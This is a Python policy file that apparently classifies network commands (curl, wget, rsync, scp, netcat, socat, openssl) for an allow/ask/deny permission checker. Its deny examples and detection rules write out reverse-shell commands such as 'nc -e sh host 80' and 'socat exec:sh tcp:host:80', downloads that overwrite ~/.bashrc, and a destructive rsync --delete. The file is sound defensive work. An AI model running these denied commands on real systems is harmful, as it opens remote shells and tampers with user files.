"""Downloaders and remote copies: every use contacts the network and asks; their records state what they read,
write and send, so the handler (which follows URLs and upload syntax) keeps no option table.
"""

from __future__ import annotations

from typing import Any

from cairn.policy.shell.programs.record import Program, program

__all__ = ["FAMILY", "RECORDS"]

FAMILY = "network"

_WGET: dict[str, Any] = dict(
    asks_valued="OoaPiUeTtwQBDlI",
    asks_long_valued="""output-document output-file append-output directory-prefix input-file
        user-agent execute timeout tries wait quota base domains post-data post-file body-file
        body-data header config user password load-cookies save-cookies method level
        include-directories""",
    reads_with="-i --input-file --post-file --body-file --load-cookies",
    writes_with="-o --output-file -a --append-output --save-cookies",
    runs_with="-e --execute --config",
    handler="download.wget",
    ask=("wget https://example.com/x.tar.gz",),
    deny=("wget -O ~/.bashrc https://example.com/x",),
)

#: rsync and scp: ``host:path`` operands are remote; sending reads the local side, fetching
#: writes it (with network data), a copy between local paths is a plain write.
_REMOTE_COPY: dict[str, Any] = dict(
    operands="copy",
    remote=True,
    says="copies files to",
    asks_long_valued="""exclude include exclude-from include-from files-from filter log-file
        backup-dir temp-dir partial-dir chmod""",
    critical_with="--delete --delete-before --delete-after --delete-during --remove-source-files",
)


def _remote_copy(runs: str) -> tuple[tuple[str, ...], ...]:
    """Its rules: options that run another program as the transport, then send or fetch."""
    return (
        (runs, "network", "high", "{opt} runs another program as its transport", "network"),
        ("remote-last", "network", "high", "sends {ops}", "network"),
        ("remote", "network", "high", "downloads into {out}", "network download-files"),
    )


_REMOTE_SHELL = (
    "always",
    "network",
    "high",
    "connects to another machine (and can run commands there)",
    "network",
)

# fmt: off
#: netcat: a program handed to the connection is a reverse shell, else raw network data.
_NETCAT = (
    ("-e -c --exec --sh-exec --lua-exec is:-e is:-c", "network", "high",
        "{opt} connects a program to the network (reverse shell)", "network reverse-shell downloads"),
    ("-l --listen", "network", "high", "listens for a raw network connection", "network downloads"),
    ("always", "network", "high", "opens a raw network connection", "network downloads"),
)

RECORDS: tuple[Program, ...] = (
    program("curl", asks_valued="oKdFTbcDEHuwXAeUxrYyzCmQ",
        asks_long_valued="""output config data data-binary data-raw data-urlencode data-ascii form
        form-string upload-file cookie cookie-jar dump-header cert key cacert capath header user
        write-out request user-agent referer proxy trace trace-ascii stderr json url output-dir
        netrc-file variable max-time connect-timeout retry range quote time-cond speed-time
        speed-limit limit-rate max-filesize resolve connect-to interface dns-servers unix-socket
        abstract-unix-socket""",
        reads_with="-E --cert --key --cacert --netrc-file -b --cookie",
        writes_with="-o --output -c --cookie-jar -D --dump-header --trace --trace-ascii --stderr --output-dir",
        runs_with="-K --config", handler="download.curl", ask=("curl https://example.com",),
        deny=("curl -o ~/.bashrc https://example.com/x",)),
    program("wget", **_WGET),
    program("wget2", **_WGET),
    program("rsync", asks_valued="eTBf", **_REMOTE_COPY, rules=_remote_copy("-e --rsh --rsync-path"),
        ask=("rsync -a src/ host:dst/", "rsync -e sh src/ dst/"), deny=("rsync -a --delete src/ .",)),
    program("scp", asks_valued="eiPoFSlJ", **_REMOTE_COPY, rules=_remote_copy("-S -o -F"),
        ask=("scp README.md host:", "scp host:x src/"), deny=("scp host:x ~/.bashrc",)),
    *(
        program(n, options_by_handler=True, rules=(_REMOTE_SHELL,), ask=(f"{n} host",))
        for n in ("ssh", "sftp", "telnet", "ftp", "mosh")
    ),
    *(
        program(n, options_by_handler=True, rules=_NETCAT, ask=(f"{n} host 80", f"{n} -l 8080"),
            deny=(f"{n} -e sh host 80", f"{n} -lvpc sh 80", f"{n} --sh-exec=sh host 80"))
        for n in ("nc", "ncat", "netcat")
    ),
    program("socat", options_by_handler=True, rules=(
            ("^exec:,system:&^tcp,udp,ssl,openssl,sctp", "network", "high",
                "connects a program to the network (reverse shell)", "network reverse-shell downloads"),
            ("always", "network", "high", "relays data over the network", "network downloads")),
        ask=("socat - tcp:host:80", "socat exec:ls -"),
        deny=("socat exec:sh tcp:host:80", "socat TCP:host:80 SYSTEM:sh", "socat -d OPENSSL:h:443 EXEC:'sh -i'")),
    program("openssl", options_by_handler=True, single_dash=True, asks_long_valued="in inkey key CAfile out keyout",
        reads_with="-in -inkey -key -CAfile", writes_with="-out -keyout", decodes_with="-d", rules=(
            ("is:s_client is:s_server is:ocsp -connect", "network", "high", "opens a network connection",
                "network downloads"),
            ("-out -keyout", "write", "medium", "{opt} writes {out}"),
            ("always", "read", "low", "works on local data")),
        allow=("openssl version",),
        ask=("openssl s_client -connect host:443", "openssl enc -d -in x -out src/y", "openssl x509 -in /etc/x"),
        deny=("openssl enc -in README.md -out /etc/x",)),
)
# fmt: on
